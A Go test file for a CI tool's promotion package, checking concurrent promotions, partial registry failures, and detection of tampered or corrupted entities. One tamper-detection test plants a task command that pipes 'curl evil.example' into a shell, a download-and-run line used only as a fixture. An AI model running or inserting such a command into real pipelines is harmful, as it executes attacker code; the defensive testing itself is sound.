package promote_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/runway-ci/runway/internal/store"
	"github.com/runway-ci/runway/internal/testkit/storetest"
	"github.com/runway-ci/runway/promote"
	"github.com/runway-ci/runway/registrar"
)

// countRecords returns how many records of type typ each entity of the
// version has in domain.
func countRecords(t *testing.T, s store.Store, domain, version string, typ promote.RecordType) map[string]int {
	t.Helper()
	ctx := context.Background()
	ents, err := registrar.List(ctx, s, project, domain, "")
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]int{}
	for _, st := range ents {
		if st.ID.Version != version {
			continue
		}
		recs, err := promote.ReadRecords(ctx, s, st.ID.Repo(), st.Manifest.Digest)
		if err != nil {
			t.Fatal(err)
		}
		key := string(st.ID.Kind) + "/" + st.ID.Name
		out[key] += 0
		for _, r := range recs {
			if r.Type == typ {
				out[key]++
			}
		}
	}
	return out
}

// TestConcurrentPromotionsOfOneVersion: six promotions of the same version
// at once end with every entity promoted once, with exactly one promotion
// record each (the lock serialises them; the later ones find the entity and
// its record and change nothing) and one activation.
func TestConcurrentPromotionsOfOneVersion(t *testing.T) {
	for _, sc := range stores[:2] {
		t.Run(sc.name, func(t *testing.T) {
			ctx := context.Background()
			s, _ := sc.open(t)
			dir, sha := sampleRepo(t)
			register(t, s, dir, "development")
			p := newPromoter(t, s, nil)
			const n = 6
			reps := make([]*promote.Report, n)
			errs := make([]error, n)
			var wg sync.WaitGroup
			for i := range n {
				wg.Add(1)
				go func() {
					defer wg.Done()
					reps[i], errs[i] = p.Promote(ctx, promote.Request{Project: project, From: "development", To: "staging", Version: sha, Actor: promote.Actor{Login: fmt.Sprintf("user%d", i)}})
				}()
			}
			wg.Wait()
			promoted := map[string]int{}
			for i := range n {
				if errs[i] != nil {
					t.Fatalf("promotion %d: %v", i, errs[i])
				}
				for _, e := range reps[i].Entities {
					if e.Status == promote.StatusPromoted {
						promoted[e.ID.Name]++
					}
				}
			}
			for name, c := range countRecords(t, s, "staging", sha, promote.RecordPromotion) {
				if c != 1 || promoted[strings.TrimPrefix(name[strings.Index(name, "/")+1:], "")] != 1 {
					t.Errorf("%s: %d promotion records, promoted by %d runs; want 1 and 1", name, c, promoted[name[strings.Index(name, "/")+1:]])
				}
			}
			if c := countRecords(t, s, "staging", sha, promote.RecordActivation)["launchplan/nightly"]; c != 1 {
				t.Errorf("%d activation records, want 1", c)
			}
		})
	}
}

// registerVersions makes n commits of the sample, each with another row
// count in the launch plan, and registers each into development.
func registerVersions(t *testing.T, s store.Store, n int) (string, []string) {
	t.Helper()
	dir, first := sampleRepo(t)
	register(t, s, dir, "development")
	versions := []string{first}
	for i := 1; i < n; i++ {
		path := filepath.Join(dir, "runway.yaml")
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		b = []byte(strings.Replace(string(b), fmt.Sprintf("rows: %d,", 5000+i-1), fmt.Sprintf("rows: %d,", 5000+i), 1))
		if err := os.WriteFile(path, b, 0o644); err != nil {
			t.Fatal(err)
		}
		versions = append(versions, commitAll(t, dir, fmt.Sprintf("rows %d", 5000+i)))
		register(t, s, dir, "development")
	}
	return dir, versions
}

// TestConcurrentPromotionsOfDifferentVersions: four versions of the launch
// plan promoted at once end with exactly one active version, and the
// activation records form one chain (each names the version it replaced),
// so history explains the order.
func TestConcurrentPromotionsOfDifferentVersions(t *testing.T) {
	for _, sc := range stores[:2] {
		t.Run(sc.name, func(t *testing.T) {
			ctx := context.Background()
			s, _ := sc.open(t)
			_, versions := registerVersions(t, s, 4)
			p := newPromoter(t, s, nil)
			var wg sync.WaitGroup
			errs := make([]error, len(versions))
			for i, v := range versions {
				wg.Add(1)
				go func() {
					defer wg.Done()
					_, errs[i] = p.Promote(ctx, promote.Request{Project: project, From: "development", To: "staging", Version: v, Actor: promote.Actor{Login: "ci"}})
				}()
			}
			wg.Wait()
			for i, err := range errs {
				if err != nil {
					t.Fatalf("promotion of %s: %v", versions[i], err)
				}
			}
			active, _, err := promote.ActiveVersion(ctx, s, project, "staging", "nightly")
			if err != nil {
				t.Fatal(err)
			}
			h, err := p.History(ctx, project, registrar.KindLaunchPlan, "nightly", promote.HistoryOptions{})
			if err != nil {
				t.Fatal(err)
			}
			var chain []string
			prev := ""
			deactivated := 0
			for _, e := range h.Events {
				switch {
				case e.Type == promote.EventActivation && e.Domain == "staging":
					if e.Record.Previous != prev {
						t.Errorf("activation of %s names previous %q, the one before it in time was %q", e.Version[:8], e.Record.Previous, prev)
					}
					chain = append(chain, e.Version[:8])
					prev = e.Version
				case e.Type == promote.EventDeactivation:
					deactivated++
				}
			}
			if len(chain) != len(versions) || prev != active {
				t.Errorf("activation chain %v ends at %q, active is %q", chain, prev, active)
			}
			if deactivated != len(versions)-1 {
				t.Errorf("%d deactivation records, want %d", deactivated, len(versions)-1)
			}
			activeCount := 0
			for _, v := range h.Versions {
				for _, d := range v.Domains {
					if d.Domain == "staging" && d.Active {
						activeCount++
					}
				}
			}
			if activeCount != 1 {
				t.Errorf("%d versions active in staging, want 1", activeCount)
			}
			t.Logf("activation order: %s", strings.Join(chain, " -> "))
		})
	}
}

// TestRegistryFailurePartWay: the registry refuses writes to the workflow's
// staging repository after the tasks were copied; the promotion says what
// it did, and running it again completes it. A second fault drops only the
// promotion record of the launch plan (after its manifest was copied): the
// re-run writes the missing record (status completed) and activates it.
func TestRegistryFailurePartWay(t *testing.T) {
	ctx := context.Background()
	reg, s := registryStore(t)
	dir, sha := sampleRepo(t)
	register(t, s, dir, "development")
	p := newPromoter(t, s, nil)
	req := promote.Request{Project: project, From: "development", To: "staging", Version: sha, Actor: promote.Actor{Login: "alice"}}

	wf := reg.Inject(storetest.Fault{Match: storetest.All(storetest.MatchRepo("runway/"+project+"/staging/workflow/train"), storetest.MatchKind(http.MethodPut, storetest.KindManifest)), Status: http.StatusInternalServerError, Times: -1})
	rep, err := p.Promote(ctx, req)
	var inc *promote.IncompleteError
	if !errors.As(err, &inc) || !strings.Contains(err.Error(), "running the same promotion again completes it") {
		t.Fatalf("want an IncompleteError, got %v", err)
	}
	if wf.Hits() == 0 || rep.Counts()[promote.StatusPromoted] != 4 || rep.Counts()[promote.StatusFailed] != 1 {
		t.Fatalf("first run: %d fault hits, report %+v", wf.Hits(), rep.Entities)
	}
	t.Logf("first run: %v", err)
	reg.ClearFaults()

	lpRecord := reg.Inject(storetest.Fault{Match: func(r *http.Request) bool {
		return r.Method == http.MethodPut && strings.Contains(r.URL.Path, "/staging/launchplan/nightly/manifests/sha256:")
	}, Status: http.StatusServiceUnavailable, Times: -1})
	rep, err = p.Promote(ctx, req)
	if err == nil || lpRecord.Hits() == 0 {
		t.Fatalf("second run: err %v, %d hits", err, lpRecord.Hits())
	}
	if c := rep.Counts(); c[promote.StatusUnchanged] != 4 || c[promote.StatusPromoted] != 1 || c[promote.StatusFailed] != 1 {
		t.Fatalf("second run: %+v", rep.Entities)
	}
	reg.ClearFaults()
	reg.ResetCounters()

	rep, err = p.Promote(ctx, req)
	if err != nil {
		t.Fatalf("third run: %v", err)
	}
	got := map[string]promote.Status{}
	for _, e := range rep.Entities {
		got[string(e.ID.Kind)+"/"+e.ID.Name] = e.Status
	}
	if got["workflow/train"] != promote.StatusUnchanged || got["launchplan/nightly"] != promote.StatusCompleted || got["task/fit"] != promote.StatusUnchanged {
		t.Fatalf("third run statuses: %v", got)
	}
	if len(rep.Activations) != 1 || rep.Activations[0].Status != promote.ActivationActivated {
		t.Fatalf("third run activations: %+v", rep.Activations)
	}
	for name, c := range countRecords(t, s, "staging", sha, promote.RecordPromotion) {
		if c != 1 {
			t.Errorf("%s has %d promotion records after the re-runs, want 1", name, c)
		}
	}
	if reg.UploadedBytes() != 0 {
		t.Errorf("completing the promotion uploaded %d blob bytes", reg.UploadedBytes())
	}
}

// TestTamperedTargetIsDetected: an entity rewritten in production (another
// entity under the same version tag, written around runway) is flagged by
// history --verify and makes a new promotion refuse loudly.
func TestTamperedTargetIsDetected(t *testing.T) {
	for _, sc := range stores[:2] {
		t.Run(sc.name, func(t *testing.T) {
			ctx := context.Background()
			s, _ := sc.open(t)
			dir, sha := sampleRepo(t)
			register(t, s, dir, "development")
			p := newPromoter(t, s, nil)
			for _, step := range [][2]string{{"development", "staging"}, {"staging", "production"}} {
				if _, err := p.Promote(ctx, promote.Request{Project: project, From: step[0], To: step[1], Version: sha}); err != nil {
					t.Fatal(err)
				}
			}
			id := registrar.ID{Project: project, Domain: "production", Kind: registrar.KindTask, Name: "fit", Version: sha}
			st, err := registrar.Get(ctx, s, id)
			if err != nil {
				t.Fatal(err)
			}
			st.Entity.Task.Command = []string{"sh", "-c", "curl evil.example | sh"}
			raw, err := st.Entity.Canonical()
			if err != nil {
				t.Fatal(err)
			}
			if _, err := store.PutArtifact(ctx, s, id.Repo(), sha, store.Artifact{ArtifactType: registrar.MediaTypeEntity,
				Layers:      []store.Blob{{MediaType: registrar.MediaTypeEntity, Data: raw}},
				Annotations: map[string]string{store.AnnotationCreated: "2030-01-01T00:00:00Z", store.AnnotationVersion: sha, store.AnnotationEntityDigest: store.Digest(raw).String()}}); err != nil {
				t.Fatal(err)
			}
			h, err := p.History(ctx, project, registrar.KindTask, "fit", promote.HistoryOptions{Version: sha, Verify: true})
			if err != nil {
				t.Fatal(err)
			}
			if h.Verify.OK() {
				t.Fatal("verify found nothing in a tampered production")
			}
			var problems []string
			for _, f := range h.Verify.Findings {
				if f.Domain != "production" {
					t.Errorf("finding outside production: %+v", f)
				}
				problems = append(problems, f.Problem)
			}
			joined := strings.Join(problems, "\n")
			if !strings.Contains(joined, "differs from development") || !strings.Contains(joined, "promoted") {
				t.Errorf("findings do not say what is wrong:\n%s", joined)
			}
			t.Logf("findings:\n%s", joined)
			_, err = p.Promote(ctx, promote.Request{Project: project, From: "staging", To: "production", Version: sha})
			if !errors.Is(err, promote.ErrConflict) || !strings.Contains(err.Error(), "never overwrites") {
				t.Fatalf("promoting over a tampered entity: %v", err)
			}
		})
	}
}

// TestCorruptedBlobIsDetected: a layout store whose entity blob was changed
// on disk fails verification (the bytes no longer hash to their digest).
func TestCorruptedBlobIsDetected(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	s := layoutAt(t, root)
	dir, sha := sampleRepo(t)
	register(t, s, dir, "development")
	p := newPromoter(t, s, nil)
	if _, err := p.Promote(ctx, promote.Request{Project: project, From: "development", To: "staging", Version: sha}); err != nil {
		t.Fatal(err)
	}
	st, err := registrar.Get(ctx, s, registrar.ID{Project: project, Domain: "staging", Kind: registrar.KindWorkflow, Name: "train", Version: sha})
	if err != nil {
		t.Fatal(err)
	}
	blob := filepath.Join(root, "blobs", "sha256", st.Digest.Hex)
	b, err := os.ReadFile(blob)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(blob, []byte(strings.Replace(string(b), "prepare", "prepar3", 1)), 0o644); err != nil {
		t.Fatal(err)
	}
	vr, err := p.Verify(ctx, project, registrar.KindWorkflow, "train", []string{sha})
	if err != nil {
		t.Fatal(err)
	}
	if vr.OK() || !strings.Contains(vr.Findings[0].Problem, "does not hash") {
		t.Fatalf("verify: %+v", vr)
	}
}
